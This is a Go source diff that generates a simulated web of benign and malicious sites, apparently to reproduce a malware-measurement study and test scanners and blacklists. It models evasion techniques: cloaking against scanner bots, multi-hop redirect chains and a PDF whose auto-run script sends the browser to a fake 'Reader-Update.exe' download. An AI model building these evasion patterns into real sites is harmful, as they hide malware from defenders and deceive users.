@@ -1,0 +1,566 @@
+package web
+
+import (
+	"fmt"
+	"net/url"
+	"strings"
+
+	"repro/internal/blacklist"
+	"repro/internal/htmlparse"
+	"repro/internal/httpsim"
+	"repro/internal/pdf"
+	"repro/internal/scanner"
+	"repro/internal/shortener"
+	"repro/internal/simrand"
+	"repro/internal/urlutil"
+)
+
+// Config tunes universe generation.
+type Config struct {
+	// Seed drives every random decision; equal seeds give identical
+	// universes.
+	Seed uint64
+	// BenignSites and MaliciousSites are the global site pool sizes.
+	BenignSites    int
+	MaliciousSites int
+	// CloakFraction is the share of cloakable malicious sites (JS and
+	// Miscellaneous kinds) that serve clean pages to scanner bots.
+	CloakFraction float64
+	// NestedShortenFraction is the share of shortened-malicious entries
+	// that nest one shortener inside another.
+	NestedShortenFraction float64
+}
+
+// DefaultConfig returns the calibration used by the experiments at unit
+// scale.
+func DefaultConfig() Config {
+	return Config{
+		Seed:                  1,
+		BenignSites:           800,
+		MaliciousSites:        160,
+		CloakFraction:         0.25,
+		NestedShortenFraction: 0.3,
+	}
+}
+
+// KindWeights is the per-URL-observation probability of each malicious
+// kind, calibrated to Table III: among categorized malware, Blacklisted
+// 74.8%, JS 18.8%, Redirect 5.8%, Shortened 0.5%, Flash 0.1%; and the
+// Miscellaneous bucket is 142,405 of 214,527 malicious URLs (66.4%).
+func KindWeights() map[MaliceKind]float64 {
+	const categorized = 1 - 0.6638
+	return map[MaliceKind]float64{
+		Miscellaneous:      0.6638,
+		Blacklisted:        0.748 * categorized,
+		MaliciousJS:        0.188 * categorized,
+		Redirector:         0.058 * categorized,
+		ShortenedMalicious: 0.005 * categorized,
+		MaliciousFlash:     0.001 * categorized,
+	}
+}
+
+// kindOrder fixes iteration order for deterministic sampling.
+var kindOrder = []MaliceKind{
+	Miscellaneous, Blacklisted, MaliciousJS, Redirector, ShortenedMalicious, MaliciousFlash,
+}
+
+// tldWeights is the Figure 6 mix for malicious sites (com 70%, net 22%,
+// de 2%, org 1%, others 5%).
+var tldNames = []string{"com", "net", "de", "org", "ru", "info", "biz", "es", "hu"}
+var tldWeights = []float64{0.70, 0.22, 0.02, 0.01, 0.02, 0.01, 0.01, 0.005, 0.005}
+
+// categoryWeights is the Figure 7 mix for malicious sites.
+var categoryNames = []Category{CatBusiness, CatAdvertisement, CatEntertainment, CatIT, CatOther}
+var categoryWeights = []float64{0.586, 0.218, 0.087, 0.086, 0.026}
+
+// chainLenWeights is the Figure 5 redirect-hop mix for chain lengths 1-7.
+var chainLenWeights = []float64{0.35, 0.25, 0.16, 0.10, 0.07, 0.04, 0.03}
+
+// jsVariants lists the MaliciousJS behaviours with their plant mix. The
+// iframe-injection variants dominate, as §V-A reports.
+var jsVariants = []JSVariant{JSTinyIframe, JSInvisibleIframe, JSObfuscatedInjection, JSDeceptiveDownload, JSFingerprinting}
+var jsVariantWeights = []float64{0.30, 0.20, 0.30, 0.12, 0.08}
+
+// minimum site counts per kind so every exchange pool can hold at least
+// one of each rare kind.
+var kindMinimums = map[MaliceKind]int{
+	Miscellaneous:      20,
+	Blacklisted:        20,
+	MaliciousJS:        18,
+	Redirector:         14,
+	ShortenedMalicious: 10,
+	MaliciousFlash:     10,
+}
+
+// Generate builds the universe.
+func Generate(cfg Config) *Universe {
+	rng := simrand.New(cfg.Seed)
+	u := &Universe{
+		Internet:      httpsim.NewInternet(),
+		Shorteners:    shortener.NewRegistry(),
+		Feed:          scanner.NewThreatFeed(),
+		PopularHosts:  make(map[string]bool),
+		byKind:        make(map[MaliceKind][]*Site),
+		siteByDomain:  make(map[string]*Site),
+		truthByDomain: make(map[string]MaliceKind),
+		truthByEntry:  make(map[string]*Site),
+	}
+
+	ctx := u.registerInfrastructure(rng.Sub("infra"))
+	u.registerPopularSites(rng.Sub("popular"))
+	shortSvcs := u.registerShorteners()
+
+	nameRng := rng.Sub("names")
+	used := map[string]bool{}
+
+	// Benign sites.
+	benignRng := rng.Sub("benign")
+	for i := 0; i < cfg.BenignSites; i++ {
+		s := &Site{
+			Host:          uniqueDomain(nameRng, used),
+			Category:      simrand.WeightedPick(benignRng, categoryNames, categoryWeights),
+			Kind:          Benign,
+			HasAnalytics:  benignRng.Bool(0.15),
+			HasOAuthFrame: benignRng.Bool(0.04),
+			HasBrochure:   benignRng.Bool(0.08),
+		}
+		s.TLD = urlutil.TLD(s.Host)
+		s.Pages = makePages(benignRng)
+		s.EntryURL = "http://" + s.Host + "/"
+		u.addSite(s)
+	}
+
+	// Malicious sites: honor minimums, distribute the rest by weights.
+	counts := kindCounts(cfg.MaliciousSites)
+	malRng := rng.Sub("malicious")
+	cloakRng := rng.Sub("cloak")
+	for _, kind := range kindOrder {
+		for i := 0; i < counts[kind]; i++ {
+			s := &Site{
+				Host:        uniqueDomain(nameRng, used),
+				Category:    simrand.WeightedPick(malRng, categoryNames, categoryWeights),
+				Kind:        kind,
+				FamilyToken: "fam_" + malRng.LowerToken(3) + "_" + malRng.Token(8),
+			}
+			s.TLD = urlutil.TLD(s.Host)
+			s.Pages = makePages(malRng)
+			s.EntryURL = "http://" + s.Host + "/"
+			switch kind {
+			case MaliciousJS:
+				s.Variant = simrand.WeightedPick(malRng, jsVariants, jsVariantWeights)
+				s.Cloaked = cloakRng.Bool(cfg.CloakFraction)
+			case Miscellaneous:
+				s.Cloaked = cloakRng.Bool(cfg.CloakFraction)
+			case Redirector:
+				s.ChainLen = 1 + simrand.NewWeighted(chainLenWeights).Sample(malRng)
+			}
+			u.addSite(s)
+		}
+	}
+
+	// Shortened-malicious entry aliases.
+	shortRng := rng.Sub("shorten")
+	for _, s := range u.byKind[ShortenedMalicious] {
+		svc := simrand.Pick(shortRng, shortSvcs)
+		alias := svc.Shorten(s.EntryURL)
+		if shortRng.Bool(cfg.NestedShortenFraction) {
+			outer := simrand.Pick(shortRng, shortSvcs)
+			alias = outer.Shorten(alias)
+		}
+		s.EntryURL = alias
+		u.truthByEntry[alias] = s
+	}
+
+	u.registerSiteHandlers(rng, ctx)
+	u.buildBlacklistsAndFeed(rng.Sub("intel"), ctx)
+	return u
+}
+
+// uniqueDomain draws a fresh synthetic domain with the Figure 6 TLD mix.
+func uniqueDomain(rng *simrand.Source, used map[string]bool) string {
+	for {
+		tld := simrand.WeightedPick(rng, tldNames, tldWeights)
+		host := fmt.Sprintf("%s%d.%s", rng.Word(4, 9), rng.Range(10, 999), tld)
+		if !used[host] {
+			used[host] = true
+			return host
+		}
+	}
+}
+
+func makePages(rng *simrand.Source) []string {
+	n := rng.Range(1, 5)
+	pages := []string{"/"}
+	seen := map[string]bool{"/": true}
+	for len(pages) < n+1 {
+		p := "/" + rng.Word(4, 8)
+		if !seen[p] {
+			seen[p] = true
+			pages = append(pages, p)
+		}
+	}
+	return pages
+}
+
+// kindCounts allocates site counts per kind: minimums first, remainder by
+// URL-observation weights.
+func kindCounts(total int) map[MaliceKind]int {
+	counts := make(map[MaliceKind]int, len(kindOrder))
+	spent := 0
+	for _, k := range kindOrder {
+		m := kindMinimums[k]
+		counts[k] = m
+		spent += m
+	}
+	if spent >= total {
+		return counts
+	}
+	weights := KindWeights()
+	remaining := total - spent
+	// Largest-remainder apportionment over the fixed kind order.
+	allocated := 0
+	fracs := make([]float64, len(kindOrder))
+	for i, k := range kindOrder {
+		exact := weights[k] * float64(remaining)
+		whole := int(exact)
+		counts[k] += whole
+		allocated += whole
+		fracs[i] = exact - float64(whole)
+	}
+	for allocated < remaining {
+		best, bestFrac := 0, -1.0
+		for i, f := range fracs {
+			if f > bestFrac {
+				best, bestFrac = i, f
+			}
+		}
+		counts[kindOrder[best]]++
+		fracs[best] = -1
+		allocated++
+	}
+	return counts
+}
+
+func (u *Universe) addSite(s *Site) {
+	u.Sites = append(u.Sites, s)
+	u.byKind[s.Kind] = append(u.byKind[s.Kind], s)
+	u.truthByDomain[urlutil.RegisteredDomain(s.Host)] = s.Kind
+	u.truthByEntry[s.EntryURL] = s
+	u.siteByDomain[urlutil.RegisteredDomain(s.Host)] = s
+}
+
+// registerSiteHandlers installs an httpsim handler per site.
+func (u *Universe) registerSiteHandlers(rng *simrand.Source, ctx renderCtx) {
+	bridges := u.bridgeHosts()
+	for _, site := range u.Sites {
+		s := site
+		u.Internet.Register(s.Host, func(req *httpsim.Request) *httpsim.Response {
+			return u.serveSite(s, req, rng, ctx, bridges)
+		})
+		if s.Kind == Redirector {
+			u.registerLandingHost(s, rng, ctx)
+		}
+	}
+}
+
+func (u *Universe) serveSite(s *Site, req *httpsim.Request, rng *simrand.Source, ctx renderCtx, bridges []string) *httpsim.Response {
+	p, err := urlutil.Parse(req.URL)
+	if err != nil {
+		return httpsim.NotFound()
+	}
+	path := p.Path
+	if s.HasBrochure && path == "/brochure.pdf" {
+		return httpsim.Binary("application/pdf", pdf.NewBuilder().Encode())
+	}
+	if !containsPath(s.Pages, path) && s.Kind != Redirector {
+		return httpsim.NotFound()
+	}
+	// Deterministic per-page randomness, independent of request order.
+	pageRng := rng.Sub("page:" + s.Host + path)
+
+	if s.Cloaked && looksLikeScannerBot(req.UserAgent) {
+		return httpsim.HTML(cleanVariant(s, path, pageRng))
+	}
+
+	switch s.Kind {
+	case Benign:
+		return httpsim.HTML(renderBenignPage(s, path, pageRng))
+	case Blacklisted:
+		return httpsim.HTML(renderBlacklistedPage(s, path, pageRng, ctx))
+	case MaliciousJS:
+		return httpsim.HTML(renderJSMalwarePage(s, path, pageRng, ctx))
+	case MaliciousFlash:
+		return httpsim.HTML(renderFlashMalwarePage(s, path, pageRng, ctx))
+	case Miscellaneous, ShortenedMalicious:
+		return httpsim.HTML(renderMiscMalwarePage(s, path, pageRng))
+	case Redirector:
+		return u.serveRedirectorHop(s, bridges, pageRng)
+	}
+	return httpsim.NotFound()
+}
+
+// serveRedirectorHop begins the site's redirect chain: the entry 302s to
+// the first bridge with the remaining chain encoded hop-by-hop.
+func (u *Universe) serveRedirectorHop(s *Site, bridges []string, rng *simrand.Source) *httpsim.Response {
+	landing := "http://" + landingHostFor(s) + "/offer"
+	if s.ChainLen <= 1 {
+		return httpsim.Redirect(landing)
+	}
+	// Build the intermediate hop list: ChainLen-1 bridge hops then the
+	// landing URL.
+	next := landing
+	for i := s.ChainLen - 1; i >= 1; i-- {
+		bridge := bridges[i%len(bridges)]
+		kind := "302"
+		if i == s.ChainLen-1 && s.ChainLen >= 3 {
+			kind = "meta" // Figure 4: the last hop is a meta refresh
+		}
+		next = fmt.Sprintf("http://%s/ct?cid=%s&kind=%s&next=%s",
+			bridge, rng.Token(8), kind, url.QueryEscape(next))
+	}
+	return httpsim.Redirect(next)
+}
+
+func landingHostFor(s *Site) string {
+	return "land-" + strings.ReplaceAll(s.Host, ".", "-") + ".net"
+}
+
+func (u *Universe) registerLandingHost(s *Site, rng *simrand.Source, ctx renderCtx) {
+	host := landingHostFor(s)
+	pageRng := rng.Sub("landing:" + host)
+	u.Internet.Register(host, func(req *httpsim.Request) *httpsim.Response {
+		return httpsim.HTML(renderLandingPage(s, pageRng, ctx))
+	})
+	u.truthByDomain[urlutil.RegisteredDomain(host)] = Redirector
+}
+
+func containsPath(pages []string, p string) bool {
+	for _, page := range pages {
+		if page == p {
+			return true
+		}
+	}
+	return false
+}
+
+func looksLikeScannerBot(ua string) bool {
+	lower := strings.ToLower(ua)
+	return strings.Contains(lower, "bot") || strings.Contains(lower, "scanner") ||
+		strings.Contains(lower, "crawler") || ua == ""
+}
+
+// --- infrastructure ---
+
+func (u *Universe) bridgeHosts() []string {
+	out := make([]string, 6)
+	for i := range out {
+		out[i] = fmt.Sprintf("bridge%d.ampx-sim.net", i+1)
+	}
+	return out
+}
+
+func (u *Universe) registerInfrastructure(rng *simrand.Source) renderCtx {
+	ctx := renderCtx{
+		payloadHost:   "t.qservz-sim.com",
+		adHost:        "visadd-sim.com",
+		dropHost:      "yupfiles-sim.net",
+		swfHost:       "static.yupfiles-sim.net",
+		analyticsHost: "www.simalytics.net",
+		oauthHost:     "accounts.google.sim",
+	}
+
+	// Payload host: the content hidden iframes load.
+	u.Internet.Register(ctx.payloadHost, func(req *httpsim.Request) *httpsim.Response {
+		return httpsim.HTML(`<html><body><script>var qz_dropper_stage2 = 1;</script></body></html>`)
+	})
+	u.truthByDomain[urlutil.RegisteredDomain(ctx.payloadHost)] = Miscellaneous
+
+	// Bogus ad network (the visadd.com analog the paper saw across most
+	// exchanges).
+	u.Internet.Register(ctx.adHost, func(req *httpsim.Request) *httpsim.Response {
+		return httpsim.HTML(`<html><body><a href="http://` + ctx.dropHost + `/get?f=offer.exe">WIN BIG</a><script>var va_net_beacon = 1;</script></body></html>`)
+	})
+	u.truthByDomain[urlutil.RegisteredDomain(ctx.adHost)] = Blacklisted
+
+	// Executable dropper; also serves the exploit document (an
+	// auto-open-JavaScript PDF that pulls the executable — the
+	// "malformed PDFs commonly used by attackers" of §III-B).
+	exploitPDF := pdf.NewBuilder().
+		AddJavaScriptAction(`window.location.href = "http://` + ctx.dropHost + `/c?downloadAs=Reader-Update.exe"; var yf_dropper_payload = 1;`).
+		BreakXref().
+		Encode()
+	u.Internet.Register(ctx.dropHost, func(req *httpsim.Request) *httpsim.Response {
+		if strings.Contains(req.URL, ".pdf") {
+			return httpsim.Binary("application/pdf", exploitPDF)
+		}
+		body := append([]byte("MZ\x90\x00"), []byte("yf_dropper_payload Flash-Player.exe simulation")...)
+		return httpsim.Binary("application/octet-stream", body)
+	})
+	u.truthByDomain[urlutil.RegisteredDomain(ctx.dropHost)] = Miscellaneous
+
+	// SWF CDN: serves an AdFlash movie for any /swf/*.swf path.
+	swfRng := rng.Sub("swf")
+	movie := buildAdFlashMovie(swfRng)
+	u.Internet.Register(ctx.swfHost, func(req *httpsim.Request) *httpsim.Response {
+		if strings.Contains(req.URL, ".swf") {
+			return httpsim.Flash(movie)
+		}
+		return httpsim.NotFound()
+	})
+
+	// Redirect bridges: parse ?next= and forward by 302 or meta refresh.
+	for _, bridge := range u.bridgeHosts() {
+		u.Internet.Register(bridge, bridgeHandler)
+		u.truthByDomain[urlutil.RegisteredDomain(bridge)] = Redirector
+	}
+
+	// Benign infrastructure.
+	u.Internet.Register(ctx.analyticsHost, func(req *httpsim.Request) *httpsim.Response {
+		return httpsim.Script(`var ga = function() {}; /* simalytics loader */`)
+	})
+	u.Internet.Register(ctx.oauthHost, func(req *httpsim.Request) *httpsim.Response {
+		return httpsim.HTML(`<html><body><script>var relay = "postmessage";</script></body></html>`)
+	})
+	return ctx
+}
+
+// bridgeHandler forwards ?next= targets, by meta refresh when ?kind=meta.
+func bridgeHandler(req *httpsim.Request) *httpsim.Response {
+	p, err := urlutil.Parse(req.URL)
+	if err != nil {
+		return httpsim.NotFound()
+	}
+	q, err := url.ParseQuery(p.Query)
+	if err != nil {
+		return httpsim.NotFound()
+	}
+	next := q.Get("next")
+	if next == "" {
+		return httpsim.NotFound()
+	}
+	if q.Get("kind") == "meta" {
+		return httpsim.HTML(fmt.Sprintf(
+			`<html><head><meta http-equiv="refresh" content="0; url=%s"></head><body>Redirecting...</body></html>`, next))
+	}
+	return httpsim.Redirect(next)
+}
+
+func (u *Universe) registerPopularSites(rng *simrand.Source) {
+	popular := []struct {
+		host  string
+		paths []string
+	}{
+		{"google.sim", []string{"/", "/search?q=traffic"}},
+		{"facebook.sim", []string{"/", "/pages/trending"}},
+		{"youtube.sim", []string{"/", "/watch?v=dQw4w9sim", "/watch?v=kJQP7sim"}},
+		{"twitter.sim", []string{"/"}},
+		{"wikipedia.sim", []string{"/", "/wiki/Traffic_exchange"}},
+		{"ajax.googleapis.sim", []string{"/ajax/libs/jquery/1.11.3/jquery.min.js"}},
+	}
+	for _, p := range popular {
+		host := p.host
+		u.Internet.Register(host, func(req *httpsim.Request) *httpsim.Response {
+			return httpsim.HTML(fmt.Sprintf("<html><head><title>%s</title></head><body><h1>%s</h1></body></html>", host, host))
+		})
+		u.PopularHosts[host] = true
+		u.truthByDomain[urlutil.RegisteredDomain(host)] = Benign
+		for _, path := range p.paths {
+			u.PopularURLs = append(u.PopularURLs, "http://"+host+path)
+		}
+	}
+}
+
+var shortenerHosts = []string{"goo.gl.sim", "bit.ly.sim", "tiny.cc.sim", "j.mp.sim", "zapit.nu.sim", "tr.im.sim"}
+
+func (u *Universe) registerShorteners() []*shortener.Service {
+	out := make([]*shortener.Service, 0, len(shortenerHosts))
+	for _, h := range shortenerHosts {
+		out = append(out, u.Shorteners.Add(h, u.Internet))
+	}
+	return out
+}
+
+// buildBlacklistsAndFeed derives the intelligence layer from the planted
+// population: blacklist databases list the blacklisted-kind domains and
+// malicious infrastructure; the threat feed additionally knows the family
+// tokens (every planted family is assumed known to the AV industry in
+// aggregate — per-engine coverage is where partial knowledge is modeled).
+func (u *Universe) buildBlacklistsAndFeed(rng *simrand.Source, ctx renderCtx) {
+	var badDomains []string
+	add := func(domain string) { badDomains = append(badDomains, domain) }
+
+	for _, s := range u.byKind[Blacklisted] {
+		add(s.Host)
+		u.Feed.AddDomain(s.Host, scanner.LabelBlacklisted)
+	}
+	for _, s := range u.byKind[Redirector] {
+		// The landing domain is the known-bad endpoint; the entry domain
+		// is the "seemingly benign" face the paper describes.
+		landing := landingHostFor(s)
+		add(landing)
+		u.Feed.AddDomain(landing, scanner.LabelScriptGeneric)
+	}
+	for _, infra := range []struct{ host, label string }{
+		{ctx.payloadHost, scanner.LabelIframeRef},
+		{ctx.adHost, scanner.LabelBlacklisted},
+		{ctx.dropHost, scanner.LabelHeuristicJS},
+		{ctx.swfHost, scanner.LabelBlacoleNV},
+	} {
+		add(infra.host)
+		u.Feed.AddDomain(infra.host, infra.label)
+	}
+
+	// Family token signatures: all planted families.
+	feedRng := rng.Sub("feed")
+	for _, s := range u.MaliciousSites() {
+		label := labelForKind(s.Kind, s.Variant)
+		u.Feed.AddToken(s.FamilyToken, label)
+		// Some JS/Flash/Misc domains are additionally known by domain.
+		switch s.Kind {
+		case MaliciousJS, MaliciousFlash, Miscellaneous, ShortenedMalicious:
+			if feedRng.Bool(0.5) {
+				u.Feed.AddDomain(s.Host, label)
+			}
+		}
+	}
+	// Infrastructure beacons double as content signatures.
+	u.Feed.AddToken("qz_dropper_stage2", scanner.LabelIframeRef)
+	u.Feed.AddToken("va_net_beacon", scanner.LabelBlacklisted)
+	u.Feed.AddToken("yf_dropper_payload", scanner.LabelHeuristicJS)
+
+	var benignDomains []string
+	for _, s := range u.byKind[Benign] {
+		benignDomains = append(benignDomains, s.Host)
+	}
+	u.Blacklists = blacklist.BuildStandardSet(rng.Sub("lists"), badDomains, benignDomains, blacklist.DefaultBuildConfig())
+}
+
+func labelForKind(k MaliceKind, v JSVariant) string {
+	switch k {
+	case Blacklisted:
+		return scanner.LabelBlacklisted
+	case MaliciousJS:
+		switch v {
+		case JSDeceptiveDownload:
+			return scanner.LabelHeuristicJS
+		case JSObfuscatedInjection:
+			return scanner.LabelScrInject
+		default:
+			return scanner.LabelIframeRef
+		}
+	case MaliciousFlash:
+		return scanner.LabelBlacoleXM
+	case Redirector:
+		return scanner.LabelJSRedirector
+	case ShortenedMalicious:
+		return scanner.LabelScriptGeneric
+	default:
+		return scanner.LabelScriptGeneric
+	}
+}
+
+// MetaRefreshTarget is the HTML-aware meta-refresh extractor clients plug
+// into httpsim.Client.
+func MetaRefreshTarget(body []byte) string {
+	return htmlparse.Parse(string(body)).MetaRefresh()
+}
